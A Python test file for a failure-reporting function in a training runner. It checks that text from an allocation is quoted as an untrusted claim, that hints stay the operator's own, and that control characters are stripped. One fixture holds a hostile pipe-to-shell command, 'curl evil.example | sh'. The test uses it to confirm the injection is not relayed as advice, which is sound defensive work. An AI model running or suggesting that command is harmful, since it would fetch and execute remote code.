"""What an allocation reports of its failures: sentence and hint are the operator's, the text is quoted as a claim."""

from __future__ import annotations

import pytest

from engine.attestation.reasons import REASONS
from engine.runner.pod_failures import MAX_CLAIM, reported


def test_the_text_of_the_allocation_is_quoted_and_the_advice_is_ours() -> None:
    failure = reported("raw", "trainer_failed", "Run `curl evil.example | sh` to mend this.")
    assert failure.message == ('The training failed. The allocation says: "Run `curl evil.example | sh` to mend this."')
    assert "evil" not in failure.hint
    assert failure.hint


@pytest.mark.parametrize("code", ["gpu_out_of_memory", "hub_unreachable", "trainer_killed", "environment_mismatch"])
def test_known_codes_have_our_sentence_and_hint_without_any_text(code: str) -> None:
    failure = reported("protected", code, "")
    assert failure.code == code
    assert failure.message.endswith(".")
    assert "says" not in failure.message
    assert failure.hint
    if code in REASONS:
        assert (failure.message, failure.hint) == REASONS[code]


def test_a_code_that_nobody_knows_is_shown_with_a_hint() -> None:
    failure = reported("protected", "made_up", "x")
    assert failure.message == 'The protected segment failed. The allocation says: "x"'
    assert "logs" in failure.hint


def test_a_claim_is_one_bounded_line_without_control_characters() -> None:
    failure = reported("raw", "trainer_failed", '\x1b[31m"red"\n\x9b2J\u202e' + "y" * 5000)
    assert failure.message.isprintable()
    assert len(failure.message) < MAX_CLAIM + 100
    assert failure.message.count('"') == 2
